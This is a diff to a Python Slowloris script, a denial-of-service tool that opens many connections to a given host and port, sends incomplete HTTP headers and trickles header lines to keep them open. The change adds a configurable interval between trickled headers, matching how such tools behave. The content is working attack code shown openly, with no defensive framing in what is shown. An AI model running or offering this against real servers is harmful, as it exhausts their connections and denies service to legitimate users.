@@ -1,6 +1,7 @@
 # Slowloris: many connections that start a request and never finish its headers, trickling a
 # header line now and then to look alive.
-# Usage: slowloris.py <host> <port> <connections> <seconds>
+# Usage: slowloris.py <host> <port> <connections> <seconds> [interval]
+# (a header line every `interval` seconds, 5 by default, as slowloris tools trickle them)
 # Prints "<n> held" once every connection is open, then "done" when it lets go.
 import socket
 import sys
@@ -8,6 +9,7 @@ import time
 
 host, port = sys.argv[1], int(sys.argv[2])
 connections, seconds = int(sys.argv[3]), float(sys.argv[4])
+interval = float(sys.argv[5]) if len(sys.argv) > 5 else 5.0
 
 
 
@@ -27,7 +29,7 @@ print('%d held' % sum(1 for s in clients if s), flush=True)
 deadline = time.time() + seconds
 n = 0
 while time.time() < deadline:
-    time.sleep(0.5)
+    time.sleep(min(interval, max(0.0, deadline - time.time())))
     n += 1
     for i, s in enumerate(clients):
         try:
